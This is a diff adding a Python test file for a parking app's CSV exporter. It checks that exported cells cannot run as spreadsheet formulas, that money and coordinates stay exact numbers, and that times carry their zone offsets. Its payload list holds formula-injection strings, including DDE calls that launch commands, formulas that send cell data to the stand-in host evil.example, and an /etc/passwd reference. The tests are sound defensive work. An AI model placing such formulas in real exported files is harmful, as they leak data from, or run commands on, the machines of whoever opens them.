@@ -1,0 +1,278 @@
+"""Cells: nothing a spreadsheet would run, numbers that stay numbers, times with their offset."""
+
+import csv
+import io
+import re
+from datetime import UTC, datetime
+from decimal import Decimal
+
+import pytest
+
+from parking import csv_writer
+from parking.exports import columns
+
+PAYLOADS = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    '=WEBSERVICE("http://evil.example")',
+    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
+    '=DDE("cmd";"/C calc";"x")',
+    "=SUM(A1:A9)",
+    "==1",
+    "='file:///etc/passwd'#$passwd.A1",
+    '="a"&"b"',
+    "+1+1",
+    "+cmd|' /C calc'!A0",
+    "+49 170 1234567",
+    "++1",
+    "+A1",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "-A1",
+    "--1",
+    "-",
+    "@SUM(1+1)",
+    "@A1",
+    "@",
+    "@x@y",
+    "|cmd",
+    "|calc.exe!A0",
+    "||",
+    "%0A=1+1",
+    "%",
+    "%USERPROFILE%",
+    "\t=1+1",
+    "\t1",
+    "\ttext",
+    "\t@SUM(1)",
+    "\r=1+1",
+    "\rtext",
+    "\r\n=1+1",
+    "\n=1+1",
+    "\ntext",
+    "\n\n-1",
+    "\0=1+1",
+    "\0text",
+    "\0",
+    " =1+1",
+    "   +1",
+    "\u00a0=1+1",
+    "\u2003-1",
+    "\ufeff=1+1",
+    "\u200b=1+1",
+    "\u2060@A1",
+    "\u200e=1+1",
+    "\u200f+1",
+    "\v=1+1",
+    "\f=1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1)",
+    "｜cmd",
+    "％A",
+    " \t =1+1",
+    "=1+1;=2+2",
+    "=1+1,=2+2",
+    '=""""',
+]
+DANGEROUS = re.compile(r"[=+\-@|%＝＋－＠｜％\t\r\n\0]")
+TEXT = {  # every column a person can write into, or that is read from what persons wrote
+    "bookings": ["reference", "lot_name", "vehicle_plate", "user_email", "username", "reason"],
+    "users": ["email", "username", "roles", "timezone", "locale"],
+    "lots": ["name", "address", "description", "currency", "cap_day"],
+    "spots": ["lot_name", "level"],
+}
+
+
+def read_back(document):
+    """A reader of its own: RFC 4180 by the letter, written apart from the csv module."""
+    text = document.decode("utf-8")
+    assert text.startswith("\ufeff")
+    rows, row, cell, quoted, i = [], [], "", False, 1
+    while i < len(text):
+        char = text[i]
+        if quoted:
+            if char != '"':
+                cell += char
+            elif text[i + 1 : i + 2] == '"':
+                cell, i = cell + '"', i + 1
+            else:
+                quoted = False
+        elif char == '"':
+            assert cell == "", "a quote inside an unquoted cell"
+            quoted = True
+        elif char == ",":
+            row, cell = [*row, cell], ""
+        elif text[i : i + 2] == "\r\n":
+            rows, row, cell, i = [*rows, [*row, cell]], [], "", i + 1
+        else:
+            assert char not in "\r\n", "a bare line end outside quotes"
+            cell += char
+        i += 1
+    assert not quoted
+    assert not row, "the last line ends too"
+    return rows
+
+
+def row_of(table, text):
+    """A raw row of the table with `text` wherever text can stand."""
+    second = int(datetime(2026, 3, 2, 12, tzinfo=UTC).timestamp())
+    if table == "bookings":
+        shown = (7, text, text, "Europe/Berlin", 3, "instant", "Completed", second, second + 3600, None, None, second)
+        return (
+            *shown,
+            250,
+            250,
+            "EUR",
+            text,
+            second,
+            None,
+            1,
+            0,
+            None,
+            "rolling",
+            "UTC",
+            1,
+            3,
+            9,
+            text,
+            text,
+            "user",
+            text,
+        )
+    if table == "users":
+        return (9, text, text, text, True, text, text, second, None, 4, 1250, second)
+    if table == "lots":
+        return (
+            1,
+            text,
+            5,
+            250,
+            text,
+            "Europe/Berlin",
+            text,
+            52.5,
+            -13.4,
+            text,
+            True,
+            900,
+            14400,
+            1,
+            0,
+            None,
+            text,
+            second,
+            second,
+            None,
+        )
+    return (3, 1, text, "Europe/Berlin", 3, text, True, False, True, None)
+
+
+def table_of(name):
+    tables = {
+        "bookings": columns.bookings(lambda row: pytest.fail("not live"), with_user=True),
+        "users": columns.users("Europe/Berlin", "EUR"),
+        "lots": columns.LOTS,
+        "spots": columns.SPOTS,
+    }
+    return tables[name]
+
+
+def test_there_are_at_least_sixty_payloads():
+    assert len(set(PAYLOADS)) >= 60
+    assert all(DANGEROUS.match(csv_writer._FORMULA.sub("=", p)[:1]) or DANGEROUS.search(p[:4]) for p in PAYLOADS)
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+@pytest.mark.parametrize("name", TEXT)
+def test_a_payload_in_any_text_column_is_only_text(name, payload):
+    table = table_of(name)
+    header, cells = read_back(csv_writer.whole(table, [row_of(name, payload)]))
+    found = dict(zip(header, cells, strict=True))
+    for column in TEXT[name]:
+        assert found[column][0] == "'"
+        assert found[column].replace("'", "") == payload.replace("'", "")  # nothing but apostrophes is added
+    for column, cell in found.items():
+        if column not in TEXT[name] and cell:
+            assert not DANGEROUS.match(cell) or re.fullmatch(r"-?\d+(\.\d+)?", cell), column
+
+
+def test_every_column_of_text_is_tested():
+    """A column that shows a marker is a text column, and must stand in the list above."""
+    for name, known in TEXT.items():
+        header, cells = read_back(csv_writer.whole(table_of(name), [row_of(name, "marker")]))
+        assert [column for column, cell in zip(header, cells, strict=True) if cell == "marker"] == [
+            column for column in header if column in known
+        ]
+
+
+@pytest.mark.parametrize(
+    "harmless", ["Harbour", "a=b", "A-1", "x@y.example", "100 %", "Ωmega", "1", "", "(a)", "über", "🚗"]
+)
+def test_harmless_text_stays_as_it_is(harmless):
+    assert csv_writer.safe_text(harmless) == harmless
+
+
+@pytest.mark.parametrize(
+    "text", ['say "hi"', "a,b", "a;b", "line one\r\nline two", "ünïcode 🚗", "'quoted'", '""', " "]
+)
+def test_what_goes_in_comes_out(text):
+    _, cells = read_back(csv_writer.whole(columns.SPOTS, [row_of("spots", text)]))
+    assert cells[2] == text
+    with io.StringIO(csv_writer.whole(columns.SPOTS, [row_of("spots", text)]).decode("utf-8-sig"), newline="") as file:
+        assert list(csv.reader(file))[1][2] == text
+
+
+@pytest.mark.parametrize(
+    ("typed", "written"),
+    [
+        ("a;=1+1", "a;'=1+1"),
+        ('a;"=1+1"', 'a;\'"=1+1"'),
+        ("a\t @A1", "a\t' @A1"),
+        ("a\r\n=1+1", "a\r\n'=1+1"),
+        ("a;b=1; c", "a;b=1; c"),
+    ],
+)
+def test_no_cell_begins_with_a_formula_where_a_spreadsheet_splits_at_something_else(typed, written):
+    """Quotes do not help there: the line begins with a number and a comma, so no cell begins with a quote."""
+    assert csv_writer.safe_text(typed) == written
+    assert written in read_back(csv_writer.whole(columns.SPOTS, [row_of("spots", typed)]))[1]
+
+
+def test_numbers_stay_numbers():
+    assert columns.money(-500, "EUR") == Decimal("-5.00")
+    assert columns.money(None, "EUR") is None
+    line = csv_writer.lines(columns.LOTS, [row_of("lots", "x")]).decode()
+    assert ",2.50," in line
+    assert ",52.5,-13.4," in line
+
+
+def test_money_is_exact_where_floats_are_not():
+    for minor in (10, 29, 57, 110, 999_999_999_99, 10**17 + 1):
+        assert str(columns.money(minor, "EUR")) == f"{minor // 100}.{minor % 100:02d}"
+
+
+@pytest.mark.parametrize(
+    ("zone", "moment", "written"),
+    [
+        ("Europe/Berlin", datetime(2026, 3, 29, 0, 59, 59, tzinfo=UTC), "2026-03-29T01:59:59+01:00"),
+        ("Europe/Berlin", datetime(2026, 3, 29, 1, 0, 0, tzinfo=UTC), "2026-03-29T03:00:00+02:00"),
+        ("Australia/Lord_Howe", datetime(2026, 4, 4, 14, 59, 59, tzinfo=UTC), "2026-04-05T01:59:59+11:00"),
+        ("Australia/Lord_Howe", datetime(2026, 4, 4, 15, 0, 0, tzinfo=UTC), "2026-04-05T01:30:00+10:30"),
+        ("Asia/Kathmandu", datetime(2026, 1, 1, tzinfo=UTC), "2026-01-01T05:45:00+05:45"),
+        ("UTC", datetime(2026, 1, 1, tzinfo=UTC), "2026-01-01T00:00:00+00:00"),
+    ],
+)
+def test_times_carry_the_offset_of_their_zone(zone, moment, written):
+    assert csv_writer.times(zone)(int(moment.timestamp())) == written
+    assert datetime.fromisoformat(written) == moment
+
+
+def test_a_file_begins_with_its_mark_and_its_header_and_ends_its_lines():
+    document = csv_writer.whole(columns.SPOTS, [])
+    assert (
+        document
+        == b'\xef\xbb\xbf"id","lot_id","lot_name","spot_number","level","ev","accessible","covered","retired_at"\r\n'
+    )
